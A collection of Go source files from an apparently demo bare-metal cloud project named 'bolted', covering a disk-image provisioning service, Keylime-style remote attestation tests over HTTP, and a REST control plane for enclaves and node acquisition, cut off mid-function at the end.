		st.invSubBytes()
		st.addRoundKey(&c.enc[r])
		st.invMixColumns()
	}
	st.invShiftRows()
	st.invSubBytes()
	st.addRoundKey(&c.enc[0])
	storeState(&st, dst)
}
