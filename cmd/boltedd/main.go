// Command boltedd runs a demo Bolted cloud and serves the HIL REST API
// over HTTP, so boltedctl (or curl) can drive allocation, networking
// and power operations the way tenant tooling drives a real HIL.
package main

import (
	"flag"
	"log"
	"net/http"

	"bolted/internal/bmi"
	"bolted/internal/core"
	"bolted/internal/hil"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:8080", "listen address for the HIL API")
	nodes := flag.Int("nodes", 4, "number of bare-metal nodes")
	fw := flag.String("firmware", "linuxboot", "node flash firmware: linuxboot or uefi")
	flag.Parse()

	cfg := core.DefaultConfig()
	cfg.Nodes = *nodes
	cfg.Firmware = core.FirmwareKind(*fw)
	cloud, err := core.NewCloud(cfg)
	if err != nil {
		log.Fatalf("boltedd: %v", err)
	}
	if _, err := cloud.BMI.CreateOSImage("fedora28", bmi.OSImageSpec{
		KernelID: "fedora28-4.17.9",
		Kernel:   []byte("vmlinuz-4.17.9-200.fc28"),
		Initrd:   []byte("initramfs-4.17.9-200.fc28"),
		Cmdline:  "root=iscsi ima_policy=tcb",
	}); err != nil {
		log.Fatalf("boltedd: seed image: %v", err)
	}

	mux := http.NewServeMux()
	mux.Handle("/bmi/", http.StripPrefix("/bmi", bmi.NewHandler(cloud.BMI)))
	mux.Handle("/", hil.NewHandler(cloud.HIL))

	log.Printf("boltedd: %d %s nodes; HIL API at http://%s/, BMI API at http://%s/bmi/", *nodes, *fw, *addr, *addr)
	log.Printf("boltedd: free nodes: %v", cloud.HIL.FreeNodes())
	if err := http.ListenAndServe(*addr, mux); err != nil {
		log.Fatal(err)
	}
}
