// Package bmi implements the Bare Metal Imaging provisioning service
// (§5): disk images stored in the Ceph-like object store, image clone
// and snapshot, and diskless boot — each node is exported an iSCSI-like
// target backed by a copy-on-write view of a golden image, so nodes are
// stateless, releases leave nothing behind on the node, and a booting
// server fetches only the fraction of the image it actually touches.
package bmi

import (
	"context"
	"errors"
	"fmt"
	"sort"
	"sync"

	"bolted/internal/blockdev"
	"bolted/internal/ceph"
)

// Common errors.
var (
	ErrNotFound = errors.New("bmi: not found")
	ErrExists   = errors.New("bmi: already exists")
	ErrInUse    = errors.New("bmi: in use")
)

// ctxErr refuses to start an image or export mutation after the caller
// has given up: a cancelled provisioning batch must not leak half-made
// images or dangling exports.
func ctxErr(ctx context.Context) error {
	if err := ctx.Err(); err != nil {
		return fmt.Errorf("bmi: %w", err)
	}
	return nil
}

// Image is a named disk image.
type Image struct {
	Name     string
	Size     int64
	Snapshot bool // snapshots are immutable
	prefix   string
}

// Export is an active per-node boot target.
type Export struct {
	Node   string
	Image  string
	Target *blockdev.Target

	overlay *blockdev.Overlay // nil when exported read-write without CoW
}

// DirtySectors reports how much of the image the node has written —
// with CoW exports this also bounds how much it has paged in for
// modification (the "<1% of the image is typically used" observation).
func (e *Export) DirtySectors() int64 {
	if e.overlay == nil {
		return 0
	}
	return e.overlay.DirtySectors()
}

// Service is the BMI API. Safe for concurrent use.
type Service struct {
	cluster *ceph.Cluster

	mu      sync.Mutex
	images  map[string]*Image
	exports map[string]*Export // keyed by node
}

// New creates a BMI service over an object-store cluster.
func New(cluster *ceph.Cluster) *Service {
	return &Service{
		cluster: cluster,
		images:  make(map[string]*Image),
		exports: make(map[string]*Export),
	}
}

func (s *Service) prefixFor(name string) string { return "img-" + name }

// CreateImage allocates an empty image of the given byte size.
func (s *Service) CreateImage(ctx context.Context, name string, size int64) (*Image, error) {
	if err := ctxErr(ctx); err != nil {
		return nil, err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if _, ok := s.images[name]; ok {
		return nil, fmt.Errorf("%w: image %q", ErrExists, name)
	}
	if size <= 0 || size%blockdev.SectorSize != 0 {
		return nil, fmt.Errorf("bmi: size %d not a positive sector multiple", size)
	}
	img := &Image{Name: name, Size: size, prefix: s.prefixFor(name)}
	s.images[name] = img
	return img, nil
}

// Device opens a block view of an image (internal and test use; booting
// nodes go through ExportForBoot).
func (s *Service) Device(name string) (blockdev.Device, error) {
	s.mu.Lock()
	img, ok := s.images[name]
	s.mu.Unlock()
	if !ok {
		return nil, fmt.Errorf("%w: image %q", ErrNotFound, name)
	}
	return ceph.NewImageDevice(s.cluster, img.prefix, img.Size)
}

// CloneImage copies src's objects into a new image dst (BMI "clone").
func (s *Service) CloneImage(ctx context.Context, src, dst string) (*Image, error) {
	if err := ctxErr(ctx); err != nil {
		return nil, err
	}
	s.mu.Lock()
	srcImg, ok := s.images[src]
	if !ok {
		s.mu.Unlock()
		return nil, fmt.Errorf("%w: image %q", ErrNotFound, src)
	}
	if _, ok := s.images[dst]; ok {
		s.mu.Unlock()
		return nil, fmt.Errorf("%w: image %q", ErrExists, dst)
	}
	dstImg := &Image{Name: dst, Size: srcImg.Size, prefix: s.prefixFor(dst)}
	s.images[dst] = dstImg
	s.mu.Unlock()
	if err := s.cluster.CopyPrefix(srcImg.prefix, dstImg.prefix); err != nil {
		return nil, err
	}
	return dstImg, nil
}

// SnapshotImage creates an immutable snapshot of an image.
func (s *Service) SnapshotImage(ctx context.Context, src, snap string) (*Image, error) {
	img, err := s.CloneImage(ctx, src, snap)
	if err != nil {
		return nil, err
	}
	s.mu.Lock()
	img.Snapshot = true
	s.mu.Unlock()
	return img, nil
}

// DeleteImage removes an image and its objects; it fails while any node
// has the image exported.
func (s *Service) DeleteImage(ctx context.Context, name string) error {
	if err := ctxErr(ctx); err != nil {
		return err
	}
	s.mu.Lock()
	img, ok := s.images[name]
	if !ok {
		s.mu.Unlock()
		return fmt.Errorf("%w: image %q", ErrNotFound, name)
	}
	for _, e := range s.exports {
		if e.Image == name {
			s.mu.Unlock()
			return fmt.Errorf("%w: image %q exported to node %q", ErrInUse, name, e.Node)
		}
	}
	delete(s.images, name)
	s.mu.Unlock()
	s.cluster.DeletePrefix(img.prefix + ".")
	return nil
}

// ListImages returns image names, sorted. The error return exists for
// remote implementations of the same surface; the in-process service
// never fails.
func (s *Service) ListImages() ([]string, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	var out []string
	for name := range s.images {
		out = append(out, name)
	}
	sort.Strings(out)
	return out, nil
}

// GetImage looks up an image.
func (s *Service) GetImage(name string) (*Image, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	img, ok := s.images[name]
	if !ok {
		return nil, fmt.Errorf("%w: image %q", ErrNotFound, name)
	}
	cp := *img
	return &cp, nil
}

// ExportForBoot creates the node's boot target. With cow=true (the
// normal diskless mode) node writes land in a discardable overlay and
// the golden image stays pristine; cow=false exports the image
// read-write (e.g. for image preparation). A node can hold only one
// export at a time.
func (s *Service) ExportForBoot(ctx context.Context, node, image string, cow bool) (*Export, error) {
	if err := ctxErr(ctx); err != nil {
		return nil, err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if _, ok := s.exports[node]; ok {
		return nil, fmt.Errorf("%w: node %q already has an export", ErrInUse, node)
	}
	img, ok := s.images[image]
	if !ok {
		return nil, fmt.Errorf("%w: image %q", ErrNotFound, image)
	}
	if img.Snapshot && !cow {
		return nil, fmt.Errorf("bmi: snapshot %q is immutable; export with cow", image)
	}
	dev, err := ceph.NewImageDevice(s.cluster, img.prefix, img.Size)
	if err != nil {
		return nil, err
	}
	e := &Export{Node: node, Image: image}
	if cow {
		e.overlay = blockdev.NewOverlay(dev)
		e.Target = blockdev.NewTarget(e.overlay)
	} else {
		e.Target = blockdev.NewTarget(dev)
	}
	s.exports[node] = e
	return e, nil
}

// GetExport returns a node's active export.
func (s *Service) GetExport(node string) (*Export, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	e, ok := s.exports[node]
	if !ok {
		return nil, fmt.Errorf("%w: no export for node %q", ErrNotFound, node)
	}
	return e, nil
}

// Unexport tears down a node's boot target. With saveAs non-empty the
// node's CoW state is persisted as a new image (shutdown + later
// restart on any compatible node — the elasticity property); otherwise
// the overlay is discarded and no node state survives.
func (s *Service) Unexport(ctx context.Context, node, saveAs string) error {
	if err := ctxErr(ctx); err != nil {
		return err
	}
	s.mu.Lock()
	e, ok := s.exports[node]
	if !ok {
		s.mu.Unlock()
		return fmt.Errorf("%w: no export for node %q", ErrNotFound, node)
	}
	delete(s.exports, node)
	img := s.images[e.Image]
	s.mu.Unlock()

	if saveAs == "" || e.overlay == nil {
		if e.overlay != nil {
			e.overlay.Discard()
		}
		return nil
	}
	// Persist: clone the golden image, then apply the overlay's dirty
	// sectors on top.
	saved, err := s.CloneImage(ctx, e.Image, saveAs)
	if err != nil {
		return err
	}
	dst, err := ceph.NewImageDevice(s.cluster, saved.prefix, img.Size)
	if err != nil {
		return err
	}
	buf := make([]byte, blockdev.SectorSize)
	for _, sec := range e.overlay.DirtyList() {
		if err := e.overlay.ReadSectors(buf, sec); err != nil {
			return err
		}
		if err := dst.WriteSectors(buf, sec); err != nil {
			return err
		}
	}
	e.overlay.Discard()
	return nil
}
