package keylime

import (
	"bytes"
	"context"
	"net/http/httptest"
	"testing"

	"bolted/internal/ima"
)

// TestFullAttestationOverHTTP runs the complete Keylime flow with every
// component behind REST: the agent serves quotes/IMA/keys, the
// registrar serves enrolment, and the verifier reaches the node only
// through a RemoteAgent.
func TestFullAttestationOverHTTP(t *testing.T) {
	r := newRig(t)

	agentSrv := httptest.NewServer(NewAgentHandler(r.agent))
	defer agentSrv.Close()
	regSrv := httptest.NewServer(NewRegistrarHandler(r.reg))
	defer regSrv.Close()

	// Enrolment over HTTP (credential activation round trip).
	if err := r.agent.RegisterOverHTTP(regSrv.URL, regPort); err != nil {
		t.Fatal(err)
	}
	aik, err := r.reg.AIK("node1")
	if err != nil || !aik.Equal(r.machine.TPM().AIKPublic()) {
		t.Fatalf("HTTP enrolment broken: %v", err)
	}

	// Attestation driven through the remote agent.
	remote := NewRemoteAgent("node1", agentSrv.URL)
	wl := ima.NewWhitelist()
	wl.AllowContent("/bin/ok", []byte("ok"))
	spec := r.spec()
	spec.IMAWhitelist = wl
	tenant := NewTenant(r.verifier)
	specRemote := ProvisionSpec{
		Payload:      spec.Payload,
		PlatformPCRs: spec.PlatformPCRs,
		IMAWhitelist: wl,
		HILMetadata:  spec.HILMetadata,
	}
	if _, err := tenant.Provision(context.Background(), r.reg, remote, specRemote); err != nil {
		t.Fatal(err)
	}
	// The V share and payload reached the real agent through its REST
	// endpoint; U too. Unwrap works on the node.
	p, err := r.agent.Unwrap()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(p.Kernel, spec.Payload.Kernel) {
		t.Fatal("payload corrupted over HTTP")
	}

	// Continuous attestation through REST: measure, check, violate.
	col := ima.NewCollector(r.machine.TPM(), ima.StressPolicy)
	r.agent.AttachIMA(col)
	col.Measure("/bin/ok", []byte("ok"), ima.HookExec, 0)
	if v, err := r.verifier.CheckIMA("node1"); err != nil || len(v) != 0 {
		t.Fatalf("clean HTTP IMA check: %v %v", v, err)
	}
	col.Measure("/bin/evil", []byte("evil"), ima.HookExec, 0)
	v, err := r.verifier.CheckIMA("node1")
	if err != nil || len(v) != 1 {
		t.Fatalf("HTTP violation check: %v %v", v, err)
	}
	if status, _ := r.verifier.Status("node1"); status != StatusRevoked {
		t.Fatalf("status = %s", status)
	}
}

func TestAgentHTTPValidation(t *testing.T) {
	r := newRig(t)
	srv := httptest.NewServer(NewAgentHandler(r.agent))
	defer srv.Close()

	for _, url := range []string{
		srv.URL + "/quote?nonce=zz&pcrs=0",    // bad nonce
		srv.URL + "/quote?nonce=aabb&pcrs=x",  // bad pcr
		srv.URL + "/quote?nonce=&pcrs=0",      // empty nonce
		srv.URL + "/quote?nonce=aabb&pcrs=99", // out-of-range pcr
	} {
		resp, err := srv.Client().Get(url)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode == 200 {
			t.Errorf("%s accepted", url)
		}
	}
}

func TestRegistrarHTTPValidation(t *testing.T) {
	r := newRig(t)
	srv := httptest.NewServer(NewRegistrarHandler(r.reg))
	defer srv.Close()

	post := func(path, body string) int {
		resp, err := srv.Client().Post(srv.URL+path, "application/json", bytes.NewReader([]byte(body)))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp.StatusCode
	}
	if code := post("/agents/x/register", `{"EK":"zz","AIK":"zz"}`); code == 200 {
		t.Error("garbage keys accepted")
	}
	if code := post("/agents/x/register", `not json`); code == 200 {
		t.Error("non-JSON accepted")
	}
	if code := post("/agents/x/activate", `{"Proof":"aabb"}`); code == 200 {
		t.Error("activation of unregistered agent accepted")
	}
	resp, _ := srv.Client().Get(srv.URL + "/agents/ghost/aik")
	resp.Body.Close()
	if resp.StatusCode == 200 {
		t.Error("AIK of unknown agent served")
	}
}

func TestQuoteWireRoundTrip(t *testing.T) {
	r := newRig(t)
	q, err := r.machine.TPM().Quote([]byte("nonce"), []int{0, 4, 10})
	if err != nil {
		t.Fatal(err)
	}
	back, err := wireToQuote(quoteToWire(q))
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(back.Nonce, q.Nonce) || len(back.PCRValues) != 3 ||
		back.PCRValues[1] != q.PCRValues[1] || !bytes.Equal(back.Sig, q.Sig) {
		t.Fatal("quote wire round trip corrupted")
	}
}
