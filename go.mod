module bolted

go 1.24
