// v1.go is the versioned tenant control plane: Enclave, node
// acquisition and Operation as server-side REST resources. Where the
// raw service plane (remote.go) exposes the provider's HIL/BMI/
// registrar wire APIs for tenants who run their own orchestrator, /v1
// hosts the orchestrator server-side: POST /v1/enclaves creates a
// named enclave, nodes:acquire starts a batch and returns immediately
// with an Operation the tenant polls, streams or cancels, and DELETE
// releases nodes and enclaves. Errors cross the wire as typed JSON
// envelopes mapped onto the packages' sentinel errors at both ends.
package remote

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"strconv"
	"strings"
	"time"

	"bolted/internal/bmi"
	"bolted/internal/core"
	"bolted/internal/guard"
	"bolted/internal/hil"
	"bolted/internal/keylime"
	"bolted/internal/obs"
)

// prefixV1 mounts the tenant control plane beside the raw plane.
const prefixV1 = "/v1"

// errInvalid marks malformed tenant requests (HTTP 400).
var errInvalid = errors.New("remote: invalid argument")

// apiError is the typed error payload inside every non-2xx response.
type apiError struct {
	Code    string `json:"code"`
	Message string `json:"message"`
}

// errorEnvelope is the v1 wire form of a failure.
type errorEnvelope struct {
	Error apiError `json:"error"`
}

// Wire error codes and the sentinel each maps onto.
const (
	codeNotFound     = "not_found"
	codeExists       = "already_exists"
	codeConflict     = "conflict"
	codeUnauthorized = "permission_denied"
	codeInvalid      = "invalid_argument"
	codeExhausted    = "resource_exhausted"
	codeUnavailable  = "unavailable"
	codeInternal     = "internal"
)

// EnclaveInfo is the wire form of an enclave resource.
type EnclaveInfo struct {
	Name    string            `json:"name"`
	Profile string            `json:"profile"`
	Nodes   map[string]string `json:"nodes"` // node -> lifecycle state
	// Incidents lists the enclave's open (non-terminal) incident IDs;
	// tooling branches on "incident open" without a second round trip.
	Incidents []string `json:"incidents,omitempty"`
}

// GuardPolicyInfo is the wire form of a runtime-guard policy. Zero
// fields take the guard's defaults. guard.Policy already carries its
// wire tags, so the wire form IS the policy — no converter to forget a
// field in.
type GuardPolicyInfo = guard.Policy

// GuardInfo is the wire form of an enclave's runtime attestation guard.
type GuardInfo struct {
	Enclave     string          `json:"enclave"`
	Policy      GuardPolicyInfo `json:"policy"`
	Rounds      uint64          `json:"rounds"`
	Checks      uint64          `json:"checks"`
	Revocations uint64          `json:"revocations"`
	Paused      bool            `json:"paused,omitempty"`
	Incidents   []string        `json:"incidents,omitempty"`
}

func guardInfo(g *guard.Guard) *GuardInfo {
	st := g.Status()
	return &GuardInfo{
		Enclave:     st.Enclave,
		Policy:      st.Policy,
		Rounds:      st.Rounds,
		Checks:      st.Checks,
		Revocations: st.Revocations,
		Paused:      st.Paused,
		Incidents:   st.Incidents,
	}
}

// IncidentStepInfo is one recorded response action of an incident.
type IncidentStepInfo struct {
	At     time.Time `json:"at"`
	Name   string    `json:"name"`
	Detail string    `json:"detail,omitempty"`
	Error  string    `json:"error,omitempty"`
}

// IncidentInfo is the wire form of an incident resource. Seq is set
// only on incident-stream items (GET /incidents?watch=1): the update's
// 1-based feed position, stable across restarts, usable as ?after=.
type IncidentInfo struct {
	Seq     uint64             `json:"seq,omitempty"`
	ID      string             `json:"id"`
	Enclave string             `json:"enclave"`
	Node    string             `json:"node"`
	Reason  string             `json:"reason"`
	State   string             `json:"state"`
	Opened  time.Time          `json:"opened"`
	Closed  time.Time          `json:"closed,omitzero"`
	Steps   []IncidentStepInfo `json:"steps,omitempty"`
}

// Terminal reports whether the incident has reached a final state.
func (i *IncidentInfo) Terminal() bool { return core.IncidentState(i.State).Terminal() }

func incidentInfo(st core.IncidentStatus) *IncidentInfo {
	info := &IncidentInfo{
		ID:      st.ID,
		Enclave: st.Enclave,
		Node:    st.Node,
		Reason:  st.Reason,
		State:   string(st.State),
		Opened:  st.Opened,
		Closed:  st.Closed,
	}
	for _, s := range st.Steps {
		info.Steps = append(info.Steps, IncidentStepInfo{At: s.At, Name: s.Name, Detail: s.Detail, Error: s.Error})
	}
	return info
}

// RevocationInfo is the wire form of one verifier revocation event —
// the HTTP equivalent of keylime.Verifier.Subscribe. Seq is the event's
// 1-based position in the enclave's feed; it is stable across
// control-plane restarts, so ?after=<seq> resumes exactly past it.
type RevocationInfo struct {
	Seq    uint64    `json:"seq"`
	Node   string    `json:"node"`
	Reason string    `json:"reason"`
	At     time.Time `json:"at"`
}

func revocationInfo(seq uint64, ev keylime.RevocationEvent) RevocationInfo {
	return RevocationInfo{Seq: seq, Node: ev.UUID, Reason: ev.Reason, At: ev.At}
}

// TenantQuotaInfo is the wire form of a tenant quota. core.TenantQuota
// carries its wire tags, so the wire form IS the quota.
type TenantQuotaInfo = core.TenantQuota

// QuotaInfo is the wire form of a tenant quota plus its live usage.
type QuotaInfo = core.QuotaStatus

// SchedInfo is the wire form of the airlock scheduler's state: slot
// occupancy, queue depth, and per-tenant grant/wait/preemption
// counters.
type SchedInfo = core.SchedStats

// PoolPolicyInfo is the wire form of a warm-pool policy. Zero fields
// take server-side defaults. core.PoolPolicy already carries its wire
// tags, so the wire form IS the policy.
type PoolPolicyInfo = core.PoolPolicy

// PoolInfo is the wire form of an enclave's warm pool: its policy plus
// live occupancy and hit/miss counters. Like the policy, core.PoolStats
// carries its own wire tags, so the wire form IS the stats.
type PoolInfo = core.PoolStats

// HealthInfo is the wire form of the cloud's degraded-mode snapshot:
// per-backend circuit-breaker states, degraded while any is open.
// core.HealthStatus carries its wire tags, so the wire form IS the
// status.
type HealthInfo = core.HealthStatus

// ResiliencePolicyInfo is the wire form of a resilience policy. Zero
// fields take server-side defaults; core.ResiliencePolicy carries its
// wire tags, so the wire form IS the policy.
type ResiliencePolicyInfo = core.ResiliencePolicy

// NodeFailureInfo is the wire form of a per-node batch failure.
type NodeFailureInfo struct {
	Node  string `json:"node"`
	Phase string `json:"phase"`
	Error string `json:"error"`
}

// PhaseTimingInfo is one canonical phase's aggregate across a batch.
type PhaseTimingInfo struct {
	Phase string        `json:"phase"`
	Nodes int           `json:"nodes"`
	Total time.Duration `json:"total_ns"`
	Max   time.Duration `json:"max_ns"`
}

// BatchResultInfo is the wire form of a finished acquisition.
type BatchResultInfo struct {
	Nodes   []string          `json:"nodes"`
	Failed  []NodeFailureInfo `json:"failed,omitempty"`
	Aborted []NodeFailureInfo `json:"aborted,omitempty"`
	Wall    time.Duration     `json:"wall_ns"`
	Phases  []PhaseTimingInfo `json:"phases,omitempty"`
}

// OperationInfo is the wire form of an Operation resource.
type OperationInfo struct {
	ID       string            `json:"id"`
	Enclave  string            `json:"enclave"`
	Image    string            `json:"image"`
	Count    int               `json:"count"`
	Phase    string            `json:"phase"`
	Created  time.Time         `json:"created"`
	Finished time.Time         `json:"finished,omitzero"`
	Progress map[string]string `json:"progress,omitempty"` // node -> latest lifecycle event
	Result   *BatchResultInfo  `json:"result,omitempty"`
	Error    string            `json:"error,omitempty"`
}

// Terminal reports whether the operation has reached a final phase.
func (o *OperationInfo) Terminal() bool { return core.OpPhase(o.Phase).Terminal() }

// EventInfo is the wire form of one lifecycle journal event. Seq is the
// event's 1-based journal sequence number — stable across control-plane
// restarts, so a client that saw seq N before a crash resumes the feed
// with ?after=N and misses nothing, duplicates nothing.
type EventInfo struct {
	Seq    uint64    `json:"seq"`
	At     time.Time `json:"at"`
	Kind   string    `json:"kind"`
	Node   string    `json:"node"`
	Detail string    `json:"detail,omitempty"`
}

// createEnclaveRequest is the POST /v1/enclaves body.
type createEnclaveRequest struct {
	Name    string `json:"name"`
	Profile string `json:"profile"`
}

// acquireRequest is the POST /v1/enclaves/{name}/nodes:acquire body.
type acquireRequest struct {
	Image string `json:"image"`
	Count int    `json:"count"`
}

func batchResultInfo(res *core.BatchResult) *BatchResultInfo {
	if res == nil {
		return nil
	}
	out := &BatchResultInfo{Wall: res.Timings.Wall}
	for _, n := range res.Nodes {
		out.Nodes = append(out.Nodes, n.Name)
	}
	fails := func(fs []core.NodeFailure) []NodeFailureInfo {
		var w []NodeFailureInfo
		for _, f := range fs {
			w = append(w, NodeFailureInfo{Node: f.Node, Phase: f.Phase, Error: f.Err.Error()})
		}
		return w
	}
	out.Failed = fails(res.Failed)
	out.Aborted = fails(res.Aborted)
	for _, p := range res.Timings.Phases {
		out.Phases = append(out.Phases, PhaseTimingInfo{Phase: p.Phase, Nodes: p.Nodes, Total: p.Total, Max: p.Max})
	}
	return out
}

func operationInfo(op *core.Operation) *OperationInfo {
	st := op.Status() // one atomic snapshot: "done" always carries its result
	info := &OperationInfo{
		ID:       op.ID,
		Enclave:  op.Enclave,
		Image:    op.Image,
		Count:    op.Count,
		Phase:    string(st.Phase),
		Created:  op.Created,
		Finished: st.Finished,
		Progress: make(map[string]string),
		Result:   batchResultInfo(st.Result),
	}
	for n, k := range st.Progress {
		info.Progress[n] = string(k)
	}
	if st.Err != nil {
		info.Error = st.Err.Error()
	}
	return info
}

func enclaveInfo(e *core.Enclave) *EnclaveInfo {
	info := &EnclaveInfo{Name: e.Project, Profile: e.Profile.Name, Nodes: make(map[string]string)}
	for n, st := range e.NodeStates() {
		info.Nodes[n] = string(st)
	}
	return info
}

func eventInfo(ev core.Event) EventInfo {
	return EventInfo{Seq: ev.Seq, At: ev.At, Kind: string(ev.Kind), Node: ev.Node, Detail: ev.Detail}
}

// writeV1Error maps an error onto the typed envelope: sentinel errors
// keep their identity across the wire (the client maps codes back), and
// everything else is an internal error.
func writeV1Error(w http.ResponseWriter, err error) {
	code, status := codeInternal, http.StatusInternalServerError
	switch {
	case errors.Is(err, core.ErrNotFound), errors.Is(err, hil.ErrNotFound), errors.Is(err, bmi.ErrNotFound):
		code, status = codeNotFound, http.StatusNotFound
	case errors.Is(err, core.ErrExists):
		code, status = codeExists, http.StatusConflict
	case errors.Is(err, core.ErrConflict), errors.Is(err, hil.ErrInUse):
		code, status = codeConflict, http.StatusConflict
	case errors.Is(err, hil.ErrUnauthorized):
		code, status = codeUnauthorized, http.StatusForbidden
	case errors.Is(err, errInvalid), errors.Is(err, core.ErrInvalid):
		code, status = codeInvalid, http.StatusBadRequest
	case errors.Is(err, core.ErrOverQuota):
		// Admission-control rejection: 429 with a Retry-After hint so
		// well-behaved clients (V1Client does this transparently) back
		// off instead of hammering the control plane.
		code, status = codeExhausted, http.StatusTooManyRequests
		retry := core.DefaultRetryAfter
		var qe *core.QuotaError
		if errors.As(err, &qe) && qe.RetryAfter > 0 {
			retry = qe.RetryAfter
		}
		secs := int(retry / time.Second)
		if secs < 1 {
			secs = 1
		}
		w.Header().Set("Retry-After", strconv.Itoa(secs))
	case errors.Is(err, core.ErrDegraded):
		// Degraded-mode fail-fast: a backend circuit breaker is open and
		// the control plane refuses new work rather than feeding it into
		// a dead service. 503 + Retry-After (the breaker's cooldown) so
		// clients back off until a probe can close it.
		code, status = codeUnavailable, http.StatusServiceUnavailable
		retry := time.Second
		var de *core.DegradedError
		if errors.As(err, &de) && de.RetryAfter > 0 {
			retry = de.RetryAfter
		}
		secs := int(retry / time.Second)
		if secs < 1 {
			secs = 1
		}
		w.Header().Set("Retry-After", strconv.Itoa(secs))
	}
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(errorEnvelope{Error: apiError{Code: code, Message: err.Error()}})
}

// clearWriteDeadline exempts one long-lived response (operation wait,
// event stream) from the server's WriteTimeout without loosening the
// bound for the rest of the surface.
func clearWriteDeadline(w http.ResponseWriter) {
	rc := http.NewResponseController(w)
	_ = rc.SetWriteDeadline(time.Time{})
}

func writeV1JSON(w http.ResponseWriter, status int, v interface{}) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(v)
}

// NewV1Handler serves the tenant control plane for one Manager. Mount
// it under /v1 (NewHandler does this for a full-surface boltedd).
func NewV1Handler(mgr *core.Manager) http.Handler {
	mux := http.NewServeMux()

	// Stream instruments (active watchers, flush counts) resolve from
	// the manager's registry; without one they are no-ops.
	vm := newV1Metrics(mgr.Metrics())

	// withIncidents decorates an enclave resource with its open
	// incident IDs, the control plane's "something is wrong here" flag.
	withIncidents := func(info *EnclaveInfo) *EnclaveInfo {
		info.Incidents = mgr.OpenIncidentIDs(info.Name)
		return info
	}

	mux.HandleFunc("POST /enclaves", func(w http.ResponseWriter, r *http.Request) {
		var req createEnclaveRequest
		if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
			writeV1Error(w, fmt.Errorf("%w: %v", errInvalid, err))
			return
		}
		if req.Name == "" {
			writeV1Error(w, fmt.Errorf("%w: enclave needs a name", errInvalid))
			return
		}
		profile, ok := core.ProfileByName(req.Profile)
		if !ok {
			writeV1Error(w, fmt.Errorf("%w: unknown profile %q (want alice, bob or charlie)", errInvalid, req.Profile))
			return
		}
		e, err := mgr.CreateEnclave(req.Name, profile)
		if err != nil {
			writeV1Error(w, err)
			return
		}
		writeV1JSON(w, http.StatusCreated, enclaveInfo(e))
	})

	mux.HandleFunc("GET /enclaves", func(w http.ResponseWriter, r *http.Request) {
		out := []*EnclaveInfo{} // empty list is [], never null, on the wire
		for _, name := range mgr.ListEnclaves() {
			if e, err := mgr.Enclave(name); err == nil {
				out = append(out, withIncidents(enclaveInfo(e)))
			}
		}
		writeV1JSON(w, http.StatusOK, out)
	})

	mux.HandleFunc("GET /enclaves/{name}", func(w http.ResponseWriter, r *http.Request) {
		e, err := mgr.Enclave(r.PathValue("name"))
		if err != nil {
			writeV1Error(w, err)
			return
		}
		writeV1JSON(w, http.StatusOK, withIncidents(enclaveInfo(e)))
	})

	mux.HandleFunc("DELETE /enclaves/{name}", func(w http.ResponseWriter, r *http.Request) {
		if err := mgr.DeleteEnclave(r.PathValue("name")); err != nil {
			writeV1Error(w, err)
			return
		}
		w.WriteHeader(http.StatusNoContent)
	})

	// Custom verb: POST /enclaves/{name}/nodes:acquire starts a batch
	// and answers 202 with the Operation — the multi-minute pipeline
	// never blocks the request. An Idempotency-Key header makes the
	// submission replay-safe: a retry of a key the durable store already
	// maps to an operation answers 200 with that operation instead of
	// starting a second batch.
	mux.HandleFunc("POST /enclaves/{name}/nodes:acquire", func(w http.ResponseWriter, r *http.Request) {
		var req acquireRequest
		if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
			writeV1Error(w, fmt.Errorf("%w: %v", errInvalid, err))
			return
		}
		if req.Image == "" || req.Count < 1 {
			writeV1Error(w, fmt.Errorf("%w: acquisition needs an image and a count >= 1", errInvalid))
			return
		}
		op, replayed, err := mgr.StartAcquireIdem(r.PathValue("name"), req.Image, req.Count, r.Header.Get("Idempotency-Key"))
		if err != nil {
			writeV1Error(w, err)
			return
		}
		w.Header().Set("Location", prefixV1+"/operations/"+op.ID)
		status := http.StatusAccepted
		if replayed {
			status = http.StatusOK
		}
		writeV1JSON(w, status, operationInfo(op))
	})

	mux.HandleFunc("DELETE /enclaves/{name}/nodes/{node}", func(w http.ResponseWriter, r *http.Request) {
		e, err := mgr.Enclave(r.PathValue("name"))
		if err != nil {
			writeV1Error(w, err)
			return
		}
		if err := e.ReleaseNode(r.PathValue("node"), r.URL.Query().Get("saveAs")); err != nil {
			writeV1Error(w, err)
			return
		}
		w.WriteHeader(http.StatusNoContent)
	})

	mux.HandleFunc("GET /operations", func(w http.ResponseWriter, r *http.Request) {
		out := []*OperationInfo{} // empty list is [], never null, on the wire
		for _, op := range mgr.ListOperations() {
			out = append(out, operationInfo(op))
		}
		writeV1JSON(w, http.StatusOK, out)
	})

	// GET /operations/{id} polls; ?wait=1 long-polls until the
	// operation is terminal (or the request context ends).
	mux.HandleFunc("GET /operations/{id}", func(w http.ResponseWriter, r *http.Request) {
		op, err := mgr.Operation(r.PathValue("id"))
		if err != nil {
			writeV1Error(w, err)
			return
		}
		if r.URL.Query().Get("wait") != "" {
			// A long poll outlives any server WriteTimeout: an attested
			// batch boot is minutes long on real hardware.
			clearWriteDeadline(w)
			select {
			case <-op.Done():
			case <-r.Context().Done():
				writeV1Error(w, fmt.Errorf("%w: wait interrupted: %v", errInvalid, r.Context().Err()))
				return
			}
		}
		writeV1JSON(w, http.StatusOK, operationInfo(op))
	})

	// Custom verb: POST /operations/{id}:cancel. The ServeMux wildcard
	// spans the whole segment, so the verb is split off by hand.
	mux.HandleFunc("POST /operations/{idverb}", func(w http.ResponseWriter, r *http.Request) {
		id, verb, ok := strings.Cut(r.PathValue("idverb"), ":")
		if !ok || verb != "cancel" {
